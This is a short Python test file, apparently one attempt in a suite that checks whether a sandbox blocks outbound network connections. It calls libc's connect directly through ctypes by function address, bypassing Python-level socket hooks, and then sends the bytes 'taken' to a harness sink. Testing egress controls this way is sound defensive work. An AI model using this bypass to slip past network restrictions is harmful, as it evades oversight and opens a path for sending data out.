# class: symbols
# rule: outbound_connectivity native_code
# success: a connection goes out by libc's own connect, called by its address
# proof: sink
import ctypes
import socket

from attack import SINK, address, attempt, by_address


@attempt
def connect():
    inner = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_char_p, ctypes.c_uint)(
        by_address("connect")
    )
    out, where = socket.socket(), address(*SINK)
    if inner(out.fileno(), where, len(where)) != 0:
        return False
    return out.send(b"taken") == 5
